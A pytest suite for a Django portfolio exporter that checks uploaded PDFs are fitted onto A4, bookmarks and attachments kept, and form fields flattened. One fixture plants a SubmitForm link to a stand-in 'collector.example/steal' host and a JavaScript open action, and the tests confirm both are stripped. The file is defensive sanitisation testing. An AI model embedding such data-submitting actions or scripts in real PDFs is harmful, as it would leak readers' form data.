"""Uploaded PDFs appended faithfully: every page whole inside the A4 content frame whatever its
size or rotation, never under the running header or footer; bookmarks nested; attachments
carried; form fields flattened; actions gone; a damaged file repaired."""

from __future__ import annotations

import io
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, Pdf, String
from pypdf import PdfReader, PdfWriter
from weasyprint import HTML

from accounts.models import User
from exports.pdf.appendix import A4, MARGIN_BOTTOM, MARGIN_TOP, content_area, prepare
from portfolio import services
from portfolio.models import EvidenceType, Portfolio
from qualifications.models import AssessmentCriterion
from tests.exports.test_exports import clear_section_cache, export_now, flat

MM = 72 / 25.4


def heading(pages: int = 1) -> bytes:
    return HTML(
        string="<style>@page { size: A4; margin: 22mm 18mm 20mm 18mm }</style>"
        f"<p>Heading: {pages} pages</p>"
    ).write_pdf()


def letter_with_running_heads(pages: int = 2) -> bytes:
    """US Letter pages with text at their very top and bottom, as a LaTeX document's heads."""
    body = "".join(
        f"<section style='break-after: page'><p>HEAD OF PAGE {n}</p>"
        f"<p style='position: absolute; bottom: 0'>FOOT OF PAGE {n}</p></section>"
        for n in range(1, pages + 1)
    )
    return HTML(string=f"<style>@page {{ size: Letter; margin: 4mm }}</style>{body}").write_pdf()


def rotated_landscape() -> bytes:
    writer = PdfWriter(io.BytesIO(letter_with_running_heads(1)))
    writer.pages[0].rotate(90)
    writer.write(output := io.BytesIO())
    return output.getvalue()


def with_bookmarks_attachment_field_and_actions() -> bytes:
    writer = PdfWriter(io.BytesIO(letter_with_running_heads(3)))
    chapter = writer.add_outline_item(title="Chapter one", page_number=0)
    writer.add_outline_item(title="Section 1.1", page_number=1, parent=chapter)
    writer.add_outline_item(title="Chapter two", page_number=2)
    writer.add_attachment("receipt.txt", b"Paid in full.\n")
    writer.write(buffer := io.BytesIO())
    pdf = Pdf.open(io.BytesIO(buffer.getvalue()))
    page = pdf.pages[0]
    appearance = pdf.make_stream(b"BT /Helv 12 Tf 2 6 Td (FILLED IN VALUE) Tj ET")
    appearance.Type, appearance.Subtype = Name.XObject, Name.Form
    appearance.BBox = Array([0, 0, 200, 20])
    appearance.Resources = Dictionary(
        Font=Dictionary(
            Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        )
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("FILLED IN VALUE"),
            Rect=Array([100, 600, 300, 620]),
            F=4,
            P=page.obj,
            AP=Dictionary(N=appearance),
        )
    )
    submit = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([100, 500, 300, 520]),
            A=Dictionary(S=Name.SubmitForm, F=String("https://collector.example/steal")),
        )
    )
    page.Annots = Array([field, submit])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('hello')"))
    pdf.save(out := io.BytesIO())
    return out.getvalue()


def placements(page: pikepdf.Page) -> list[tuple[float, float, float, float]]:
    """Where each form XObject drawn on the page lands: (left, bottom, right, top)."""
    placed = []
    stack: list[pikepdf.Matrix] = [pikepdf.Matrix()]
    for operands, operator in pikepdf.parse_content_stream(page):
        op = str(operator)
        if op == "q":
            stack.append(stack[-1])
        elif op == "Q":
            stack.pop()
        elif op == "cm":
            stack[-1] = pikepdf.Matrix(*[float(x) for x in operands]) @ stack[-1]
        elif op == "Do":
            xobject = page.Resources.XObject[operands[0]]
            if xobject.Subtype != Name.Form:
                continue
            matrix = pikepdf.Matrix(*[float(x) for x in xobject.get("/Matrix", [1, 0, 0, 1, 0, 0])])
            box = [float(x) for x in xobject.BBox]
            corners = [
                (matrix @ stack[-1]).transform((x, y))
                for x in (box[0], box[2])
                for y in (box[1], box[3])
            ]
            xs, ys = [c[0] for c in corners], [c[1] for c in corners]
            placed.append((min(xs), min(ys), max(xs), max(ys)))
    return placed


def inside(placed: tuple[float, float, float, float], area: Any) -> bool:
    left, bottom, right, top = placed
    slack = 0.5
    return (
        left >= area.llx - slack
        and bottom >= area.lly - slack
        and right <= area.urx + slack
        and top <= area.ury + slack
    )


@pytest.mark.parametrize(
    "uploaded", [letter_with_running_heads(), rotated_landscape()], ids=["letter", "rotated"]
)
def test_every_page_is_a4_with_the_upload_whole_inside_the_content_frame(uploaded: bytes) -> None:
    appendix = prepare(uploaded, heading)
    pdf = Pdf.open(io.BytesIO(appendix.pdf))
    assert len(pdf.pages) == len(PdfReader(io.BytesIO(uploaded)).pages) == appendix.pages
    for number, page in enumerate(pdf.pages):
        assert [round(float(x), 1) for x in page.mediabox] == [
            0,
            0,
            round(A4[0], 1),
            round(A4[1], 1),
        ]
        assert "/Rotate" not in page.obj or int(page.obj.Rotate) == 0
        [placed] = placements(page)
        assert inside(placed, content_area(first=number == 0))
        # Off the header band above and the footer band below, where the furniture prints.
        assert placed[3] <= A4[1] - MARGIN_TOP + 0.5 and placed[1] >= MARGIN_BOTTOM - 0.5


def test_a_rotated_page_is_turned_upright_and_fills_the_frame_sideways() -> None:
    appendix = prepare(rotated_landscape(), heading)
    pdf = Pdf.open(io.BytesIO(appendix.pdf))
    [placed] = placements(pdf.pages[0])
    left, bottom, right, top = placed
    # Shown as the reader saw it: wider than tall (a Letter page turned on its side).
    assert right - left > top - bottom


def test_bookmarks_are_kept_attachments_carried_fields_flattened_and_actions_removed() -> None:
    appendix = prepare(with_bookmarks_attachment_field_and_actions(), heading)

    assert [
        (b.title, b.page, [(c.title, c.page) for c in b.children]) for b in appendix.bookmarks
    ] == [
        ("Chapter one", 0, [("Section 1.1", 1)]),
        ("Chapter two", 2, []),
    ]
    assert appendix.attachments == [("receipt.txt", b"Paid in full.\n")]
    pdf = Pdf.open(io.BytesIO(appendix.pdf))
    assert (
        "/AcroForm" not in pdf.Root and "/OpenAction" not in pdf.Root and "/Names" not in pdf.Root
    )
    assert all("/Annots" not in page.obj for page in pdf.pages)
    raw = appendix.pdf
    assert b"collector.example" not in raw and b"JavaScript" not in raw
    # The field's value is drawn into the page, not lost.
    assert "FILLED IN VALUE" in PdfReader(io.BytesIO(raw)).pages[0].extract_text()


def test_a_damaged_file_is_repaired_rather_than_refused() -> None:
    whole = letter_with_running_heads(1)
    # Its cross-reference table gone, as when a download was cut short at the end.
    damaged = whole[: whole.rindex(b"xref")] + b"%%EOF\n"
    appendix = prepare(damaged, heading)
    assert appendix.pages == 1


@pytest.mark.django_db
def test_the_exported_portfolio_nests_bookmarks_carries_attachments_and_keeps_furniture_clear(
    amy: User, asha: User, amy_portfolio: Portfolio, wwo_1_1: AssessmentCriterion
) -> None:
    clear_section_cache(amy_portfolio)
    evidence = services.evidence_create(
        actor=amy,
        portfolio=amy_portfolio,
        type=EvidenceType.PRODUCT,
        title="Shop manual",
        activity_date=amy_portfolio.start_date,
        description="The manual I wrote.",
    )
    services.evidence_file_add(
        actor=amy,
        evidence=evidence,
        uploaded=SimpleUploadedFile(
            "manual.pdf", with_bookmarks_attachment_field_and_actions(), "application/pdf"
        ),
    )
    services.mappings_create(actor=amy, evidence=evidence, commentaries={wwo_1_1: "My manual."})

    export, pdf = export_now(asha, amy_portfolio)

    outline = pdf.reader.outline
    titles = _titles(outline)
    assert "Appendix: manual.pdf" in titles and "Section 1.1" in titles
    assert pdf.reader.attachments["E1 manual.pdf, attached: receipt.txt"] == [b"Paid in full.\n"]
    first = pdf.bookmarks()["Appendix: manual.pdf"]
    for number in range(first, first + 3):
        text = flat(pdf.pages[number - 1])
        assert f"Verification code {export.verification_code}" in text
        assert f"Page {number} of {len(pdf.pages)}" in text
    assert b"collector.example" not in pdf.data
    clear_section_cache(amy_portfolio)


def _titles(outline: list) -> list[str]:
    titles = []
    for item in outline:
        titles.extend(_titles(item) if isinstance(item, list) else [item.title])
    return titles
